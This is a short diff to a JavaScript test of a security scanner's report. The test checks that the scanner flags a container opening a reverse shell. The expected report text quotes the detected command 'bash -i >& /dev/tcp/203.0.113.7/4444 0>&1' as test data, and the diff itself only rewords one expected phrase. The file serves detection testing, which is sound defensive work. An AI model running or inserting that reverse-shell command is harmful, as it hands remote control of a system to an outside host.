@@ -70,7 +70,7 @@ test('the report: summary, table of findings, sections', async () => {
     /\n- Container connects a shell to a remote address \(`command\.reverse-shell`, critical, 45 points\)\n/,
   );
   assert.match(sections[0] ?? '', /`bash -i >& \/dev\/tcp\/203\.0\.113\.7\/4444 0>&1` at `\/requestObject\/spec/);
-  assert.match(sections[0] ?? '', /decoded from `base64, gzip`/);
+  assert.match(sections[0] ?? '', /found under `base64, gzip`/);
   assert.match(sections[0] ?? '', /- `actor\.new-in-namespace`: too little was seen to say what is normal\n/);
 });
 
